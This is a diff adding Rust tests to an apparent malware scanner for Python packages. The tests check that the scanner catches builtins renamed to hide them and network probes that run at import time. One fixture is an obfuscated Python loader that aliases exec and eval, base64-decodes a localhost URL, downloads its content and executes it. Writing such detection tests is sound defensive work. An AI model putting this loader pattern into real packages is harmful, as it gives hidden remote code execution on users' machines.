@@ -504,3 +504,26 @@ fn a_windows_program_url_and_a_spawn_at_install_are_malicious() {
     let r = sdist(&[("setup.py", setup)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn builtins_renamed_by_assignment_are_still_seen() {
+    // souptools: `free = exec`, `replace = eval`, an imported `get` renamed.
+    let module = "from base64 import b64decode as alloca\nfrom requests import get as memset\nfree = exec\nreplace = eval\nURL = 'aHR0cDovLzEyNy4wLjAuMTo5L2I2NA=='\n_index = memset(alloca(URL), timeout=3)\nfree(replace(_index.text))\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Renaming a function of one's own is not a builtin.
+    let benign = "def compile_all(x):\n    return x\nbuild = compile_all\nbuild(1)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", benign)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_web_page_opened_at_import_is_a_probe() {
+    let module = "import os\nos.system('start https://127.0.0.1:9/')\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A command that opens a page only when the user asks is not.
+    let cli = "import webbrowser\n\ndef docs():\n    webbrowser.open('https://127.0.0.1:9/')\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", cli)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
